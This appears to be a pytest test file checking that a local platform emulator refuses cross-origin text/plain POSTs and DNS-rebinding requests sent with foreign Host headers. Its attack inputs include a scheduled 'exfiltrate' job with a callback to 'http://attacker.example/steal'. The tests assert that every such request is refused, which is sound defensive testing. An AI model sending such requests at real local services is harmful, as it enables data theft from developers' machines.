"""Safe on a laptop: what a hostile web page could do to a running emulator, refused.

A cross-origin page can send "simple" requests (POST with `text/plain`, no custom headers)
without a preflight, and a DNS-rebinding page reaches 127.0.0.1 under its own name. Each test
here is one of those attacks, made over HTTP as a browser would make it, and checks that it is
refused and that nothing changed.
"""

from __future__ import annotations

import json
from typing import Any

import httpx
import pytest

from tests.emulator.emulator_process import EmulatorProcess, as_user
from tests.emulator.emulator_world import ACME, ACME_COMMAND, ACME_KEY, JANE

EVIL_ORIGIN = "http://evil.example"
TEXT = {"Content-Type": "text/plain;charset=UTF-8"}


def port_of(handle: EmulatorProcess) -> int:
    return int(handle.base_url.rsplit(":", 1)[1])


@pytest.mark.parametrize(
    ("path", "body"),
    [
        ("/_emulator/invoke", {"intent": "remember", "query": "stolen yes"}),
        ("/_emulator/reset", {}),
        ("/_emulator/faults", {"path": "/v1/", "status": 500, "times": 5}),
        ("/_emulator/events", {"organization_uuid": ACME, "event": "kudos.posted"}),
    ],
)
def test_a_cross_origin_text_plain_post_is_refused_and_changes_nothing(
    wired_emulator: EmulatorProcess, command_receiver: Any, path: str, body: dict[str, Any]
):
    with wired_emulator.client() as http:
        http.post(
            "/v1/platform/storage/",
            headers={"X-API-KEY": ACME_KEY},
            json={"op": "set", "namespace": "kept", "params": {"key": "k", "value": 1}},
        )
        # What `fetch(url, {method: "POST", mode: "no-cors", body})` sends from another site.
        from_page = http.post(
            path,
            content=json.dumps(body),
            headers={**TEXT, "Origin": EVIL_ORIGIN, "Sec-Fetch-Site": "cross-site"},
        )
        # The same without the headers a browser adds: still not JSON, still refused.
        no_origin = http.post(path, content=json.dumps(body), headers=TEXT)
        storage = http.get("/_emulator/storage").json()
        faults = http.get("/_emulator/faults").json()

    assert from_page.status_code == 403
    assert from_page.json() == {
        "code": "origin_not_allowed",
        "message": "Only the emulator's own pages may call it.",
    }
    assert no_origin.status_code == 415
    assert no_origin.json()["code"] == "json_required"
    assert command_receiver.requests == []  # nothing was invoked or published
    assert [e["key"] for e in storage] == ["k"]  # nothing was reset
    assert faults == []


def test_the_emulators_own_page_and_a_json_client_are_answered(
    wired_emulator: EmulatorProcess, command_receiver: Any
):
    own = f"http://127.0.0.1:{port_of(wired_emulator)}"
    with wired_emulator.client() as http:
        from_page = http.post(
            "/_emulator/invoke",
            json={"intent": "remember", "query": "a b"},
            headers={"Origin": own, "Sec-Fetch-Site": "same-origin"},
        )
        from_curl = http.post("/_emulator/invoke", json={"intent": "recall", "query": "a"})
        charset = http.post(
            "/_emulator/faults",
            content=json.dumps({"path": "/v1/", "status": 503}),
            headers={"Content-Type": "application/json; charset=utf-8"},
        )
        cleared = http.delete("/_emulator/faults")  # a DELETE may have no body at all
        read = http.get("/_emulator/deliveries", headers={"Sec-Fetch-Site": "same-origin"})

    assert from_page.json()["status_code"] == 200
    assert from_curl.json()["status_code"] == 200
    assert charset.status_code == 201
    assert cleared.status_code == 204
    assert read.status_code == 200
    assert len(command_receiver.requests) == 2


@pytest.mark.parametrize(
    ("method", "headers"),
    [
        ("DELETE", {"Content-Type": "text/plain"}),
        ("PUT", {}),
        ("PATCH", {"Content-Type": "application/x-www-form-urlencoded"}),
    ],
)
def test_other_writes_without_json_are_refused(
    emulator: EmulatorProcess, method: str, headers: dict[str, str]
):
    with emulator.client() as http:
        response = http.request(method, "/_emulator/faults", content=b"x=1", headers=headers)
    assert response.status_code == 415
    assert response.json()["code"] == "json_required"


@pytest.mark.parametrize("path", ["/_emulator/storage", "/_emulator/deliveries", "/"])
def test_a_page_of_another_site_cannot_read_the_control_api(emulator: EmulatorProcess, path: str):
    with emulator.client() as http:
        foreign_origin = http.get(path, headers={"Origin": EVIL_ORIGIN})
        null_origin = http.get(path, headers={"Origin": "null"})
        other_site = http.get("/_emulator/storage", headers={"Sec-Fetch-Site": "cross-site"})
    assert foreign_origin.status_code == 403
    assert null_origin.status_code == 403
    assert other_site.status_code == 403
    assert other_site.json()["code"] == "cross_site_request"


@pytest.mark.parametrize(
    "host", ["evil.example", "evil.example:{port}", "127.0.0.1:1", "localhost", "10.0.0.7:{port}"]
)
@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("GET", "/_emulator/storage"),
        ("GET", "/_emulator/deliveries"),
        ("POST", "/_emulator/invoke"),
        ("GET", "/_emulator/health"),
        ("GET", "/"),
        ("POST", "/v1/platform/scheduling/"),
    ],
)
def test_a_foreign_host_is_refused_everywhere(
    emulator: EmulatorProcess, host: str, method: str, path: str
):
    """What a DNS-rebinding page sends: its own name in `Host`, for 127.0.0.1's address."""
    with emulator.client() as http:
        response = http.request(
            method,
            path,
            headers={"Host": host.format(port=port_of(emulator)), "X-API-KEY": ACME_KEY},
            json={"intent": "remember", "name": "x", "cron": "* * * * *"},
        )
    assert response.status_code == 403
    assert response.json()["code"] == "host_not_allowed"
    assert "loopback" in response.json()["message"]


def test_the_rebinding_attack_of_the_issue_gets_nothing(
    wired_emulator: EmulatorProcess, command_receiver: Any
):
    """Read storage and deliveries, invoke, and point a schedule's callback at the attacker,
    all under the attacker's host name: every step is refused, nothing is created or sent."""
    rebound = {"Host": f"attacker.example:{port_of(wired_emulator)}"}
    with wired_emulator.client() as http:
        jane = as_user(http, JANE)
        http.post(
            "/v1/platform/storage/",
            headers=jane,
            json={"op": "set", "params": {"key": "secret", "value": "s3cr3t"}},
        )
        steps = [
            http.get("/_emulator/storage", headers=rebound),
            http.get("/_emulator/deliveries", headers=rebound),
            http.post("/_emulator/invoke", headers=rebound, json={"intent": "recall"}),
            http.post(
                "/v1/platform/scheduling/",
                headers={**rebound, "X-API-KEY": ACME_KEY},
                json={
                    "name": "exfiltrate",
                    "command_uuid": ACME_COMMAND,
                    "execution_frequency": 1,
                    "callback_url": "http://attacker.example/steal",
                },
            ),
        ]
        schedules = http.get("/_emulator/schedules").json()
        http.post("/_emulator/clock/advance", json={"seconds": 120})

    assert [s.status_code for s in steps] == [403] * 4
    assert all("s3cr3t" not in s.text for s in steps)
    assert schedules == []
    assert command_receiver.requests == []


def test_every_loopback_name_with_the_port_is_answered(emulator: EmulatorProcess):
    port = port_of(emulator)
    with emulator.client() as http:
        for host in (
            f"127.0.0.1:{port}",
            f"localhost:{port}",
            f"[::1]:{port}",
            f"LOCALHOST:{port}",
        ):
            assert http.get("/_emulator/health", headers={"Host": host}).status_code == 200
            origin = f"http://{host}"
            answer = http.get("/_emulator/clock", headers={"Host": host, "Origin": origin})
            assert answer.status_code == 200


def test_the_platform_api_takes_no_origin_but_keeps_its_host_check(emulator: EmulatorProcess):
    """The runtime calls `/v1/` without an Origin; one sent anyway is not what protects it."""
    with emulator.client() as http:
        token = http.post(
            "/v1/auth/fetch-command-exchange-token/",
            headers={"X-API-KEY": ACME_KEY},
            json={"user_uuid": JANE},
        )
        with_origin = http.post(
            "/v1/platform/storage/",
            headers={"X-API-KEY": ACME_KEY, "Origin": EVIL_ORIGIN},
            json={"op": "get", "namespace": "n", "params": {"key": "k"}},
        )
    assert token.status_code == 200
    assert with_origin.status_code == 200


def test_allow_host_adds_a_name(emulator_factory: Any):
    handle = emulator_factory(extra_args=["--allow-host", "devbox.internal:9999"])
    with handle.client() as http:
        allowed = http.get("/_emulator/health", headers={"Host": "devbox.internal:9999"})
        other_port = http.get("/_emulator/health", headers={"Host": "devbox.internal:9998"})
    assert allowed.status_code == 200
    assert other_port.status_code == 403


def test_the_in_process_kit_host_is_answered_only_when_configured():
    from emulator.app import create_app
    from emulator.config import EmulatorConfig
    from testkit.wire import PlatformWire

    def health(allowed: tuple[str, ...]) -> int:
        app = create_app(EmulatorConfig(db=":memory:", clock="virtual", allowed_hosts=allowed))
        with httpx.Client(transport=PlatformWire(app), base_url="http://platform.testkit") as c:
            return c.get("/_emulator/health").status_code

    assert health(()) == 403
    assert health(("platform.testkit",)) == 200
